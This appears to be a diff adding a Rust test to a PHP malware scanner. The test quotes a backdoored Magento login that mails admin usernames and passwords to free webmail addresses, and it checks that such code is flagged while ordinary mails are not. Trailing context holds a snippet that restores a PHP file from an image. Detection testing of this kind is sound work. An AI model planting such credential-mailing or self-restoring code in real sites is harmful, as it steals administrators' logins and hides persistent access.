@@ -236,6 +236,25 @@ fn reading_or_setting_cookies_in_script_is_not_theft() {
 }
 
 #[test]
+fn a_password_mailed_to_a_free_mail_address_is_stolen() {
+    // fresh39's backdoored Magento admin session: the login's own parameters mailed out.
+    let login = r#"<?php class Session { public function login($username, $password) {
+        $user = $this->auth($username, $password);
+        if ($user) { mail("hollow.stores@gmail.com", "Admin From " . $_SERVER['HTTP_HOST'],
+            "Login : " . $_SERVER['REQUEST_URI'] . "\nUsername : " . $username . "\nPassword : " . $password); }
+        return $user; } }"#;
+    assert_eq!(found(login), [Why::CredentialCollector]);
+    let interpolated =
+        r#"<?php function after_login($u, $pass) { mail('keep.logs@yandex.ru', 'x', "user=$u pass=$pass"); }"#;
+    assert_eq!(found(interpolated), [Why::CredentialCollector]);
+    // The site's own address, the user's own address, or no password in the mail.
+    assert!(found(&login.replace("hollow.stores@gmail.com", "admin@shop.example")).is_empty());
+    let welcome = r#"<?php mail($email, 'Welcome', "Username : " . $login . "\nPassword : " . $password);"#;
+    assert!(found(welcome).is_empty());
+    assert!(found(r#"<?php mail('owner@gmail.com', 'New order', "Order : " . $id . "\nTotal : " . $sum);"#).is_empty());
+}
+
+#[test]
 fn code_put_back_from_a_picture_is_a_restorer() {
     let src = "<?php $keep = './wp-admin/images/a.png'; $to = './cache/index.php';\n\
                if (!file_exists($to)) { @file_put_contents($to, file_get_contents($keep)); }";
